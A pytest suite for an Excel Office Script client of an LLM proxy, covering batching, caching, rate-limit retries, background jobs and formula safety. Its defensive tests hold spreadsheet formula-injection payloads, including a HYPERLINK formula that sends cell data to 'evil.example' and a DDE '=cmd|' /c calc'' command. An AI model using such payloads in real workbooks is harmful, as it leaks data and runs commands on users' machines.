"""The Office Script (clients/excel/djllm.ts), for real: compiled by TypeScript 4.0 (the version Excel's Code Editor
uses) against the declared ExcelScript subset, checked for the Office Scripts rules, then run by Node against a
fake workbook (clients/excel/test/) and a live djllm (uvicorn) whose upstream is the fake OpenAI server.

The harness passes nothing to the script but the workbook: the server URL and token sit in its config sheet (or
workbook names), as they do in Excel. Assertions are on what the user sees (the cells), on the HTTP exchanges the
script made, and on djllm's usage records.
"""

import json
import shutil
import subprocess
import threading
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client

from llm.models import UsageRecord

BASE_DIR = Path(__file__).resolve().parent.parent
CLIENTS = BASE_DIR / "clients"
EXCEL = CLIENTS / "excel"
TSC = CLIENTS / "node_modules" / "typescript" / "bin" / "tsc"
NODE = shutil.which("node")

pytestmark = [
    pytest.mark.skipif(
        NODE is None, reason="node is not installed: the Office Script tests run it in Node (apt-get install nodejs)"
    ),
    pytest.mark.django_db(transaction=True),  # the live server thread reads what the test writes
]


def node(*args, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([NODE, *map(str, args)], capture_output=True, text=True, timeout=timeout, cwd=CLIENTS)


@pytest.fixture(scope="session")
def office_script(tmp_path_factory) -> Path:
    """djllm.ts compiled with the pinned TypeScript into a private folder (parallel runs do not share output)."""
    if not TSC.exists():
        pytest.fail("TypeScript is missing: run `make test`, or `npm ci --prefix clients` (installs the lockfile)")
    out = tmp_path_factory.mktemp("office-script")
    compiled = node(TSC, "-p", EXCEL / "tsconfig.json", "--outDir", out)
    assert compiled.returncode == 0, compiled.stdout + compiled.stderr
    return out / "djllm.js"


def answer(body: dict) -> str:
    """The fake upstream's reply: the text it was given, recognisably wrapped."""
    return f"ANSWER[{body['messages'][-1]['content']}]"


@pytest.fixture
def upstream(fake_upstream):
    fake_upstream.configure(reply=answer)
    return fake_upstream


@pytest.fixture
def run_script(office_script, tmp_path):
    def run(workbook: dict) -> dict:
        path = tmp_path / "workbook.json"
        path.write_text(json.dumps(workbook))
        done = node(EXCEL / "test" / "run-office-script.js", office_script, path)
        assert done.returncode in (0, 1), done.stderr
        return json.loads(done.stdout)

    return run


def config_sheet(url: str, token: str, **settings) -> list[list]:
    return [["url", url], ["token", token], *([key, value] for key, value in settings.items())]


def column(result: dict, sheet: str, index: int) -> list:
    """One column of a sheet after the run, padded with "" down to the sheet's last used row."""
    return [row[index] if index < len(row) else "" for row in result["workbook"]["sheets"][sheet]]


def batch_requests(result: dict) -> list[dict]:
    return [r for r in result["requests"] if r["url"].endswith("/api/v1/batch")]


# ---- Compile and rules -------------------------------------------------------------------------------------------


def test_script_compiles_with_typescript_4_0_and_keeps_the_office_scripts_rules(office_script):
    assert json.loads((CLIENTS / "node_modules" / "typescript" / "package.json").read_text())["version"] == "4.0.3"
    assert "async function main(workbook)" in office_script.read_text()
    checked = node(EXCEL / "tools" / "check-office-script.js", EXCEL / "djllm.ts")
    assert checked.returncode == 0, checked.stdout


def test_the_rules_checker_catches_what_excel_would_reject(tmp_path):
    bad = tmp_path / "bad.ts"
    bad.write_text(
        "async function main(workbook: ExcelScript.Workbook): Promise<void> {\n"
        "  const rows: any[] = [];\n"
        "  rows.forEach(function (row) { return row; });\n"
        "  const console = 1;\n"
        '  eval("1");\n'
        "}\n"
    )
    checked = node(EXCEL / "tools" / "check-office-script.js", bad)
    assert checked.returncode == 1
    problems = checked.stdout.splitlines()
    assert any(":2:" in p and "explicit `any`" in p for p in problems)
    assert any(":3:" in p and "arrow function" in p for p in problems)
    assert any(":4:" in p and "reserved identifier" in p for p in problems)
    assert any(":5:" in p and "eval" in p for p in problems)


def test_batch_endpoint_answers_the_scripts_cors_preflight():
    # Office Scripts run in the browser: fetch() with these headers sends a preflight first.
    response = Client().options(
        "/api/v1/batch",
        HTTP_ORIGIN="https://excel.officeapps.live.com",
        HTTP_ACCESS_CONTROL_REQUEST_METHOD="POST",
        HTTP_ACCESS_CONTROL_REQUEST_HEADERS="authorization, content-type, idempotency-key",
    )
    assert response.status_code == 200
    assert response["Access-Control-Allow-Origin"] == "*"
    allowed = {h.strip().lower() for h in response["Access-Control-Allow-Headers"].split(",")}
    assert {"authorization", "content-type", "idempotency-key"} <= allowed


# ---- Against a live djllm ----------------------------------------------------------------------------------------


def test_rows_go_in_results_come_out_in_the_adjacent_column(live_djllm, token, prices, upstream, run_script, settings):
    settings.MAX_PROMPT_LENGTH = 2000
    comments = [f"comment number {i}" for i in range(1, 152)]
    comments[9] = ""  # an empty row: not sent, and its neighbour cell is left alone
    comments[20] = 42  # a number is text to the model
    comments[30] = "x" * 2500  # too long: this row alone fails
    sheet = [["Comment", "Summary"], *([c, "keep me" if c == "" else ""] for c in comments)]
    result = run_script(
        {
            "sheets": {"Sheet1": sheet, "djllm": config_sheet(live_djllm.url, token[1], language="English")},
            "selection": "Sheet1!A2:A152",
        }
    )
    assert result["ok"], result["error"]
    out = column(result, "Sheet1", 1)
    assert out[0] == "Summary"  # the header row was not selected
    for row, comment in enumerate(comments, start=1):
        if comment == "":
            assert out[row] == "keep me"
        elif row == 31:
            assert out[row].startswith("#ERROR prompt_too_long: ")
            assert len(out[row]) <= 120
        else:
            assert out[row].startswith("ANSWER[") and str(comment) in out[row], (row, out[row])

    # 150 rows in chunks of 100: two batch requests, one write into the sheet per chunk.
    sent = batch_requests(result)
    assert [r["status"] for r in sent] == [200, 200]
    assert sorted(len(r["items"]) for r in sent) == [50, 100]
    assert len({r["idempotency_key"] for r in sent}) == 2
    assert result["workbook"]["setValuesCalls"] == 2
    assert "149 ok (0 from cache), 1 failed" in result["logs"][-1]

    records = UsageRecord.objects.filter(endpoint="batch")
    assert records.filter(status="ok").count() == 149
    assert len(set(records.values_list("batch_id", flat=True))) == 2
    assert all(r.batch_id for r in records)
    first = UsageRecord.objects.filter(status="ok").first()
    assert (first.type, first.source) == ("summary", "excel")
    assert json.loads(upstream.requests[0].raw_body)["temperature"] == 0


def test_running_it_again_costs_nothing(live_djllm, token, prices, upstream, run_script):
    workbook = {
        "sheets": {
            "Sheet1": [[f"review {i}"] for i in range(1, 26)],
            "djllm": config_sheet(live_djllm.url, token[1], type="sentiment", chunk_size=10),
        },
        "selection": "Sheet1!A1:A25",
    }
    first = run_script(workbook)
    assert first["ok"], first["error"]
    upstream_calls = len(upstream.requests)
    assert upstream_calls == 25
    assert UsageRecord.objects.filter(status="ok", cost_usd__gt=0).count() == 25
    first_run = set(UsageRecord.objects.values_list("id", flat=True))

    again = run_script(workbook)  # the user reopens the workbook tomorrow and runs the script once more
    assert again["ok"], again["error"]
    assert column(again, "Sheet1", 1) == column(first, "Sheet1", 1)
    assert len(upstream.requests) == upstream_calls  # nothing reached the upstream
    second_run = UsageRecord.objects.exclude(id__in=first_run)
    assert second_run.count() == 25
    assert set(second_run.values_list("status", flat=True)) == {"cached"}
    assert sum(r.cost_usd or Decimal(0) for r in second_run) == 0
    assert "25 ok (25 from cache), 0 failed, cost $0.000000" in again["logs"][-1]


def test_a_429_in_the_middle_is_survived(live_djllm, token, prices, upstream, run_script):
    # One batch request a second for this token: three chunks sent at once cannot all pass; djllm answers the
    # others 429 with Retry-After, and the script waits and sends the same chunk again.
    row = token[0]
    row.rate_limit = "1/s"
    row.save()
    rows = [[f"line {i}"] for i in range(1, 31)]
    result = run_script(
        {
            "sheets": {"Sheet1": rows, "djllm": config_sheet(live_djllm.url, token[1], chunk_size=10, concurrency=3)},
            "selection": "Sheet1!A1:A30",
        }
    )
    assert result["ok"], result["error"]
    assert column(result, "Sheet1", 1) == [f"ANSWER[line {i}]" for i in range(1, 31)]

    sent = batch_requests(result)
    throttled = [r for r in sent if r["status"] == 429]
    assert throttled, [r["status"] for r in sent]
    for refused in throttled:  # each refused chunk came back later, with the same key, and went through
        again = [r for r in sent[sent.index(refused) + 1 :] if r["idempotency_key"] == refused["idempotency_key"]]
        assert again and again[-1]["status"] == 200
    assert any("429, retrying in" in line for line in result["logs"])
    # Every row was billed exactly once.
    ok = UsageRecord.objects.filter(endpoint="batch", status="ok")
    assert ok.count() == 30
    assert len(set(ok.values_list("batch_id", flat=True))) == 3


def test_configured_column_named_cells_header_and_output_column(live_djllm, token, prices, upstream, run_script):
    data = [["Name", "Country", "Comment"], *([f"n{i}", "FR", f"avis {i}"] for i in range(1, 8))]
    result = run_script(
        {
            "sheets": {
                "Data": data,
                "Settings": [["Server", live_djllm.url], ["Token", token[1]], ["Column", "Data!C"]],
                "Other": [["not this"]],
            },
            # No config sheet: workbook names point at the cells, as Formulas > Name Manager would.
            "names": {"DJLLM_URL": "Settings!B1", "DJLLM_TOKEN": "Settings!B2", "DJLLM_COLUMN": "Settings!B3"},
            "selection": "Other!A1",
            "active": "Other",
        }
    )
    assert result["ok"], result["error"]
    answers = column(result, "Data", 3)  # column D: adjacent to C
    assert answers[0] == ""  # header row skipped
    assert answers[1:] == [f"ANSWER[avis {i}]" for i in range(1, 8)]
    assert result["workbook"]["sheets"]["Other"] == [["not this"]]


def test_a_rejected_token_writes_a_short_error_in_every_row(live_djllm, db, upstream, run_script):
    result = run_script(
        {
            "sheets": {
                "Sheet1": [["a"], ["b"], ["c"]],
                "djllm": config_sheet(live_djllm.url, "djl_00000000_" + "x" * 43, chunk_size=2),
            },
            "selection": "Sheet1!A1:A3",
        }
    )
    assert result["ok"], result["error"]
    cells = column(result, "Sheet1", 1)
    assert len(set(cells)) == 1 and cells[0].startswith("#ERROR token_invalid: ")
    assert [r["status"] for r in batch_requests(result)] == [401, 401]  # not retried
    assert upstream.requests == []


def test_missing_configuration_is_a_readable_error_and_sends_nothing(run_script):
    result = run_script({"sheets": {"Sheet1": [["a"]]}, "selection": "Sheet1!A1"})
    assert not result["ok"]
    assert 'Set the server URL and token: a sheet "djllm"' in result["error"]
    assert result["requests"] == []


@pytest.fixture
def job_worker(monkeypatch, settings):
    """Runs each queued job in a thread of this process, as a Celery worker would, while the 202s go out."""
    from django.db import connections

    from jobs.tasks import job_process

    settings.JOB_RETRY_AFTER_SECONDS = 1
    threads = []

    def work(job_id: str) -> None:
        try:
            job_process(job_id)
        finally:
            connections.close_all()

    def delay(job_id: str) -> None:
        thread = threading.Thread(target=work, args=(job_id,), daemon=True)
        threads.append(thread)
        thread.start()

    monkeypatch.setattr(job_process, "delay", delay)
    yield threads
    for thread in threads:
        thread.join(timeout=30)


def test_a_very_large_range_goes_to_a_background_job(live_djllm, token, prices, upstream, run_script, job_worker):
    rows = [[f"row {i}"] for i in range(1, 13)]
    config = config_sheet(live_djllm.url, token[1], job_threshold=5)
    workbook = {"sheets": {"Sheet1": rows, "djllm": config}, "selection": "Sheet1!A1:A12"}
    result = run_script(workbook)
    assert result["ok"], result["error"]
    assert column(result, "Sheet1", 1) == [f"ANSWER[row {i}]" for i in range(1, 13)]

    calls = [
        (r["method"], r["url"].removeprefix(live_djllm.url).split("?")[0], r["status"]) for r in result["requests"]
    ]
    assert calls[0] == ("POST", "/api/v1/jobs", 202)
    job_id = UsageRecord.objects.filter(endpoint="job").values_list("batch_id", flat=True).first()
    assert job_id
    assert not batch_requests(result)
    assert calls[-1][0] == "GET" and calls[-1][1].endswith("/results") and calls[-1][2] == 200
    polls = [c for c in calls[1:-1] if c[0] == "GET"]
    assert polls and polls[-1][2] == 200  # polled until the job said it was finished
    records = UsageRecord.objects.filter(endpoint="job", status="ok")
    assert records.count() == 12 and len(set(records.values_list("batch_id", flat=True))) == 1
    # The job id was kept in the config sheet while the job ran, and cleared once its results were written.
    assert ["job_id", ""] in result["workbook"]["sheets"]["djllm"]
    assert len(job_worker) == 1


def test_a_stopped_run_picks_its_job_up_again(live_djllm, token, prices, upstream, run_script, job_worker):
    rows = [[f"row {i}"] for i in range(1, 7)]
    config = config_sheet(live_djllm.url, token[1], job_threshold=3)
    first = run_script({"sheets": {"Sheet1": rows, "djllm": config}, "selection": "Sheet1!A1:A6"})
    assert first["ok"], first["error"]
    created = first["requests"][0]
    job_path = next(r["url"] for r in first["requests"] if r["method"] == "GET").removeprefix(live_djllm.url)
    job_id = job_path.rsplit("/", 1)[-1]
    assert created["method"] == "POST" and job_id

    # As if the first run had stopped before it wrote anything: the config sheet still names the job.
    resumed = run_script(
        {"sheets": {"Sheet1": rows, "djllm": [*config, ["job_id", job_id]]}, "selection": "Sheet1!A1:A6"}
    )
    assert resumed["ok"], resumed["error"]
    assert column(resumed, "Sheet1", 1) == [f"ANSWER[row {i}]" for i in range(1, 7)]
    assert [r["method"] for r in resumed["requests"]] == ["GET", "GET"]  # no new job: status, then results
    assert UsageRecord.objects.filter(endpoint="job").count() == 6  # nothing ran twice


# ---- Nothing written is ever run by Excel ------------------------------------------------------------------------

HOSTILE_ANSWERS = {
    "link": '=HYPERLINK("http://evil.example/?"&C2,"Details")',
    "list": "- first point\n- second point",
    "plus": "+A1*2",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "quote": "'quoted' and kept",
    "plain": "just text",
}


@pytest.fixture
def hostile_upstream(fake_upstream):
    def reply(body: dict) -> str:
        prompt = body["messages"][-1]["content"]
        return next(answer for key, answer in HOSTILE_ANSWERS.items() if key in prompt)

    fake_upstream.configure(reply=reply)
    return fake_upstream


@pytest.mark.parametrize("path", ["batch", "job"])
def test_answers_that_look_like_formulas_are_written_as_text(
    live_djllm, token, prices, hostile_upstream, run_script, job_worker, path
):
    keys = list(HOSTILE_ANSWERS)
    rows = [[f"row about {key}", ""] for key in keys]
    rows.insert(3, ["", "=kept as text"])  # an empty input row: its output cell is read and written back as it was
    settings = {"chunk_size": 100} if path == "batch" else {"job_threshold": 2}
    result = run_script(
        {
            "sheets": {"Sheet1": rows, "djllm": config_sheet(live_djllm.url, token[1], **settings)},
            "selection": f"Sheet1!A1:A{len(rows)}",
        }
    )
    assert result["ok"], result["error"]
    expected = [HOSTILE_ANSWERS[key] for key in keys]
    expected.insert(3, "=kept as text")
    # What the cells hold is the answers' text exactly, and Excel was never handed a formula to run.
    assert column(result, "Sheet1", 1) == expected
    assert result["workbook"]["formulas"] == []
    if path == "job":
        assert ["job_id", ""] in result["workbook"]["sheets"]["djllm"]


def test_the_fake_workbook_takes_values_as_excel_does(tmp_path):
    """The harness itself: unescaped text that starts like a formula is entered as one, so the test above can fail."""
    script = tmp_path / "probe.js"
    script.write_text(
        "async function main(workbook) {\n"
        '  workbook.getWorksheet("S").getRange("A1:A4").setValues([["=1+1"], ["\'=1+1"], ["-3"], ["- item"]]);\n'
        "}\n"
    )
    book = tmp_path / "book.json"
    book.write_text(json.dumps({"sheets": {"S": [["x"]]}}))
    done = node(EXCEL / "test" / "run-office-script.js", script, book)
    result = json.loads(done.stdout)
    assert result["workbook"]["sheets"]["S"] == [["=1+1"], ["=1+1"], ["-3"], ["- item"]]
    assert result["workbook"]["formulas"] == [
        {"cell": "S!A1", "formula": "=1+1"},
        {"cell": "S!A4", "formula": "- item"},
    ]


# ---- each, classify, extract, freeze -------------------------------------------------------------------------------


def user_text(body: dict) -> str:
    return [m for m in body["messages"] if m["role"] == "user"][-1]["content"]


def test_each_applies_the_instruction_to_every_cell_and_writes_formula_safe_text(
    live_djllm, token, prices, upstream, run_script
):
    # A model that answers with something Excel would run as a formula if it were entered as typed.
    upstream.configure(
        reply=lambda body: '=HYPERLINK("http://x")' if "evil" in user_text(body) else "OK " + user_text(body)
    )
    workbook = {
        "sheets": {
            "Sheet1": [["bonjour"], ["evil"], ["merci"]],
            "djllm": config_sheet(live_djllm.url, token[1], operation="each", instruction="translate to English"),
        },
        "selection": "Sheet1!A1:A3",
    }
    result = run_script(workbook)
    assert result["ok"], result["error"]
    assert column(result, "Sheet1", 1) == ["OK bonjour", '=HYPERLINK("http://x")', "OK merci"]
    assert result["workbook"]["formulas"] == []  # written as text, never entered as a formula
    [sent] = batch_requests(result)
    assert len(sent["items"]) == 3
    bodies = [json.loads(r.raw_body) for r in upstream.requests]
    assert all("translate to English" in b["messages"][0]["content"] and b["temperature"] == 0 for b in bodies)


def test_classify_writes_one_label_per_cell_and_asks_an_off_label_answer_once_more(
    live_djllm, token, prices, upstream, run_script
):
    def reply(body):
        restated = "spelled exactly" in body["messages"][0]["content"]
        text = user_text(body)
        if "late" in text:
            return "Negative" if restated else "rather bad"
        if "odd" in text:
            return "unsure"
        return "positive"

    upstream.configure(reply=reply)
    config = config_sheet(live_djllm.url, token[1], operation="classify", labels="Positive, Negative, Neutral")
    workbook = {
        "sheets": {"Sheet1": [["great"], ["late again"], ["odd"]], "djllm": config},
        "selection": "Sheet1!A1:A3",
    }
    result = run_script(workbook)
    assert result["ok"], result["error"]
    out = column(result, "Sheet1", 1)
    assert out[:2] == ["Positive", "Negative"]
    assert out[2].startswith("#ERROR answer_not_in_labels: ")
    first, retry = batch_requests(result)
    assert len(first["items"]) == 3 and len(retry["items"]) == 2
    retry_body = json.loads(upstream.requests[-1].raw_body)
    assert "spelled exactly" in retry_body["messages"][0]["content"]
    assert UsageRecord.objects.filter(endpoint="batch").count() == 5


def test_extract_writes_one_column_per_field(live_djllm, token, prices, upstream, run_script):
    upstream.configure(structured=lambda body: {"name": user_text(body).split(" | ")[0], "city": "+Oslo"})
    config = config_sheet(live_djllm.url, token[1], operation="extract", fields="name, city")
    sheet = [["Ann", "lives in Oslo", "", ""], ["", "", "", ""], ["Bo", 7, "", ""]]
    result = run_script({"sheets": {"Sheet1": sheet, "djllm": config}, "selection": "Sheet1!A1:B3"})
    assert result["ok"], result["error"]
    rows = result["workbook"]["sheets"]["Sheet1"]
    assert [row[2:4] for row in rows] == [["Ann", "+Oslo"], ["", ""], ["Bo", "+Oslo"]]
    assert result["workbook"]["formulas"] == []  # "+Oslo" went in as text
    # The rows' calls run concurrently: match them by content, not by arrival order.
    sent = [json.loads(request.raw_body) for request in upstream.requests]
    assert all(body["response_format"]["json_schema"]["schema"]["required"] == ["name", "city"] for body in sent)
    assert sorted(user_text(body) for body in sent) == ["Ann | lives in Oslo", "Bo | 7"]


def test_freeze_writes_the_selection_s_values_as_text(live_djllm, token, run_script):
    # What =DJLLM.EACH left in the cells, including an answer that looks like a formula.
    sheet = [["Hello", "=cmd|' /c calc'!A1"], ["-1 + 2", 3]]
    config = config_sheet(live_djllm.url, token[1], operation="freeze")
    result = run_script({"sheets": {"Sheet1": sheet, "djllm": config}, "selection": "Sheet1!A1:B2"})
    assert result["ok"], result["error"]
    assert result["workbook"]["sheets"]["Sheet1"] == [["Hello", "=cmd|' /c calc'!A1"], ["-1 + 2", 3]]
    assert result["workbook"]["formulas"] == [] and result["requests"] == []


def test_an_unknown_operation_or_missing_labels_stop_the_script(live_djllm, token, run_script):
    for settings, message in (
        ({"operation": "summarise"}, 'Unknown operation "summarise"'),
        ({"operation": "classify", "labels": "one"}, "needs at least two labels"),
    ):
        config = config_sheet(live_djllm.url, token[1], **settings)
        result = run_script({"sheets": {"Sheet1": [["x"]], "djllm": config}, "selection": "Sheet1!A1"})
        assert not result["ok"] and message in result["error"]
